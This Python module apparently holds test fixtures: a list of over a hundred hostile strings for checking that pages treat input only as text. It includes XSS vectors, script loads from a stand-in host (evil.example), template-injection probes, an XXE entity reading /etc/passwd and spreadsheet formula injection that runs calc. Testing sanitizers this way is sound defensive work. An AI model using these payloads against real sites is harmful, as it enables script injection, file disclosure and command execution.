"""Texts that would do harm if a page took them for anything but text."""

_CALL = "alert(1)"
_EVENTS = ("onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart")
_TAGS = ("img src=x", "svg", "body", "details open", "input autofocus", "video src=x", "iframe src=x", "marquee")
_WHOLE = """
<script>alert(1)</script>
<script src=//evil.example/x.js></script>
<script type=module>import("//evil.example")</script>
</script><script>alert(1)</script>
</textarea><script>alert(1)</script>
</title><svg/onload=alert(1)>
--><script>alert(1)</script>
]]><script>alert(1)</script>
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
<<script>alert(1);//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<SCRIPT>alert(1)</SCRIPT>
<svg><script>alert&#40;1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src="javascript:alert(1)"></iframe>
<object data="javascript:alert(1)"></object>
<embed src="data:text/html,<script>alert(1)</script>">
<form action="javascript:alert(1)"><button>go</button></form>
<a href="javascript:alert(1)">click</a>
<a href="&#106;avascript:alert(1)">click</a>
<a href="java&Tab;script:alert(1)">click</a>
<base href="//evil.example/">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href="//evil.example/x.css">
<link rel=import href="//evil.example/x.html">
<style>@import "//evil.example/x.css";</style>
<style>*{background:url(//evil.example)}</style>
<div style="background:url(javascript:alert(1))">
<div style="width:expression(alert(1))">
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<img src="x` `<script>alert(1)</script>"` `>
<img/src=x/onerror=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<custom-element onfocus=alert(1) tabindex=1>
<portal src="javascript:alert(1)">
<xmp><img src=x onerror=alert(1)></xmp>
javascript:alert(1)
JaVaScRiPt:alert(1)
data:text/html,<script>alert(1)</script>
vbscript:msgbox(1)
{{constructor.constructor('alert(1)')()}}
{{7*7}}
${alert(1)}
#{7*7}
<%= 7*7 %>
{% debug %}
[[${7*7}]]
*{7*7}
@(7*7)
`${alert(1)}`
"-alert(1)-"
';alert(1)//
\\";alert(1)//
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
\\x3cscript\\x3ealert(1)\\x3c/script\\x3e
&lt;script&gt;alert(1)&lt;/script&gt;
&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;
%3Cscript%3Ealert(1)%3C%2Fscript%3E
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}
__proto__ constructor prototype toString
<v Speaker onclick=alert(1)>text</v>
<c.evil>text</c>
<00:00:01.000><b>text</b>
<lang en><ruby>text<rt>ruby</rt></ruby></lang>
00:00:00.000 --> 00:00:09.000 position:0%
WEBVTT NOTE STYLE ::cue{color:red}
=cmd|'/c calc'!A1
@SUM(1+1)*cmd|'/c calc'!A1
-->
<!--
<!DOCTYPE html><html>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>
<plaintext>
"""
_ODD = [
    "\u202e<script>alert(1)</script>\u202c",
    "\u2066left\u2069 \u2067right\u2069 \u202aembed\u202c",
    "\u200f\u200eabc\u200b\u200c\u200d\ufeffdef",
    "nul\x00in<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\x01\x02\x07\x08\x1b[31mred\x1b[0m",
    "line\u2028separator\u2029paragraph",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "Z\u0351\u0352\u0353\u0354a\u0355\u0356l\u0357\u0358g\u0359\u035ao",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea",
    "\ufffe\uffff\U0010ffff",
    "ﷺ﷽" * 8,
    "x" * 300,
]
PAYLOADS = [
    *_WHOLE.strip().splitlines(),
    *(f"<{tag} {event}={_CALL}>" for tag, event in zip(_TAGS * 2, _EVENTS + _EVENTS[::-1], strict=True)),
    *_ODD,
]
"""More than a hundred of them."""
